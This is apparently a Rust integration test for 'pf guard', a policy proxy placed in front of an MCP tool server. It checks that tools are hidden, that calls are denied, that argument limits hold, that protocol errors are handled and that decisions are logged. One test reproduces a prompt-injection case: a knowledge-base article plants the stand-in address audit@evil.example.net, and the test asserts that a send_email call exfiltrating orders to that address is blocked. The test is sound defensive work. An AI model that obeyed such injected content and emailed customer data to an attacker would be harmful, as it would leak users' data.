//! `pf guard` between a client and a real stdio MCP server (`pf guard demo-tools`), with the
//! support agent's spec: hidden tools, allowed calls, denials in MCP's own form, a prompt
//! injection stopped by information flow, protocol errors answered, every decision logged.

use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};

use serde_json::{Value, json};

struct Session {
    child: Child,
    stdin: ChildStdin,
    stdout: BufReader<ChildStdout>,
}

impl Session {
    fn start(log: &Path) -> Session {
        let pf = env!("CARGO_BIN_EXE_pf");
        let spec =
            Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/support-agent/agent.yaml");
        let mut child = Command::new(pf)
            .args([
                "guard",
                "--spec",
                spec.to_str().expect("utf-8"),
                "--log",
                log.to_str().expect("utf-8"),
                "--",
                pf,
                "guard",
                "demo-tools",
            ])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("pf guard starts");
        let stdin = child.stdin.take().expect("stdin");
        let stdout = BufReader::new(child.stdout.take().expect("stdout"));
        Session {
            child,
            stdin,
            stdout,
        }
    }

    fn send_raw(&mut self, line: &str) -> Value {
        writeln!(self.stdin, "{line}").expect("write");
        self.stdin.flush().expect("flush");
        let mut reply = String::new();
        self.stdout.read_line(&mut reply).expect("read");
        serde_json::from_str(&reply)
            .unwrap_or_else(|e| panic!("reply is not JSON ({e}): {reply:?}"))
    }

    fn request(&mut self, id: u64, method: &str, params: Value) -> Value {
        self.send_raw(
            &json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}).to_string(),
        )
    }

    fn call(&mut self, id: u64, tool: &str, args: Value) -> Value {
        let reply = self.request(id, "tools/call", json!({"name": tool, "arguments": args}));
        assert_eq!(reply["id"], json!(id), "{reply}");
        reply["result"].clone()
    }
}

fn text(result: &Value) -> String {
    result["content"][0]["text"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

#[test]
fn guard_enforces_the_support_agent_spec_over_mcp() {
    let dir = tempfile::tempdir().expect("temp dir");
    let log = dir.path().join("decisions.jsonl");
    let mut s = Session::start(&log);

    let init = s.request(1, "initialize", json!({"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "test", "version": "0"}}));
    assert_eq!(
        init["result"]["serverInfo"]["name"], "pf-demo-tools",
        "{init}"
    );

    // Tools outside the spec are hidden.
    let list = s.request(2, "tools/list", json!({}));
    let names: Vec<&str> = list["result"]["tools"]
        .as_array()
        .expect("tools")
        .iter()
        .filter_map(|t| t["name"].as_str())
        .collect();
    assert!(
        names.contains(&"search_kb") && names.contains(&"send_email"),
        "{names:?}"
    );
    assert!(!names.contains(&"delete_account"), "{names:?}");

    // ... and calling one anyway is denied in MCP's form, with a reason code.
    let denied = s.call(3, "delete_account", json!({"customer": "c1"}));
    assert_eq!(denied["isError"], json!(true), "{denied}");
    assert!(text(&denied).contains("unknown_tool"), "{denied}");

    // An allowed call reaches the tool.
    let kb = s.call(4, "search_kb", json!({"query": "refund policy"}));
    assert_eq!(kb["isError"], json!(false), "{kb}");
    assert!(text(&kb).contains("audit@evil.example.net"));

    // The injected address from the (untrusted) article may not receive e-mail.
    let exfil = s.call(
        5,
        "send_email",
        json!({"to": "audit@evil.example.net", "subject": "orders", "body": "all of them"}),
    );
    assert_eq!(exfil["isError"], json!(true), "{exfil}");

    // A legitimate e-mail to an allowed domain goes through.
    let ok = s.call(
        6,
        "send_email",
        json!({"to": "jane.roe@customers.example.com", "subject": "Your refund", "body": "Done."}),
    );
    assert_eq!(ok["isError"], json!(false), "{ok}");

    // Arguments outside the constraints are denied before the tool runs.
    let refund = s.call(
        7,
        "issue_refund",
        json!({"order_id": "ORD-123456", "amount": 5000}),
    );
    assert_eq!(refund["isError"], json!(true), "{refund}");
    assert!(text(&refund).contains("arg_above_max"), "{refund}");

    // Garbage on the wire gets a JSON-RPC error, and the session goes on.
    let garbage = s.send_raw("{this is not json");
    assert_eq!(garbage["error"]["code"], json!(-32700), "{garbage}");
    let missing_name = s.request(8, "tools/call", json!({"arguments": {}}));
    assert_eq!(
        missing_name["error"]["code"],
        json!(-32602),
        "{missing_name}"
    );
    let ping = s.request(9, "ping", json!({}));
    assert_eq!(ping["result"], json!({}), "{ping}");

    drop(s.stdin);
    let status = s.child.wait().expect("guard exits");
    assert!(status.success(), "{status:?}");

    // Every decision was logged, as commitments rather than raw values.
    let records: Vec<Value> = std::fs::read_to_string(&log)
        .expect("log written")
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect();
    let calls: Vec<(&str, &str)> = records
        .iter()
        .filter(|r| r["kind"] == "call")
        .map(|r| {
            (
                r["tool"].as_str().unwrap_or(""),
                r["effect"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert_eq!(
        calls,
        vec![
            ("delete_account", "deny"),
            ("search_kb", "allow"),
            ("send_email", "deny"),
            ("send_email", "allow"),
            ("issue_refund", "deny"),
            // The tools/call without a name, refused before the policy, is logged too.
            ("<unnamed>", "deny")
        ]
    );
    let all = std::fs::read_to_string(&log).expect("log");
    assert!(
        !all.contains("evil.example.net"),
        "raw argument values must not be logged"
    );
    assert!(records.iter().all(|r| {
        r["commitment"]
            .as_str()
            .is_some_and(|c| c.starts_with("sha256:"))
    }));
}

#[test]
fn guard_without_a_server_command_fails_with_a_message() {
    let spec =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/support-agent/agent.yaml");
    let out = Command::new(env!("CARGO_BIN_EXE_pf"))
        .args(["guard", "--spec", spec.to_str().expect("utf-8")])
        .output()
        .expect("runs");
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("no MCP server") && err.contains("--upstream URL"),
        "{err}"
    );
}
